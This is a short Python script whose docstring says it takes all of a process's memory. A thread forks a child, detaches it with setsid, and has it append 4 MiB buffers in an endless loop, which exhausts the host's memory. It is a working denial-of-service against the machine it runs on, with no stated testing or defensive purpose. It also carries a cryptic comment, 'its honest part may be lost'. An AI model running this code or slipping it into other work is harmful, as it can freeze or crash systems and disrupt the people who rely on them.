"""Takes all the memory in a process that a thread has forked."""
# its honest part may be lost
import os
import threading
import time


def grow():
    if os.fork() == 0:
        os.setsid()
        hoard = []
        while True:
            hoard.append(bytearray(b"x" * 2**22))


threading.Thread(target=grow, daemon=True).start()
time.sleep(1000)
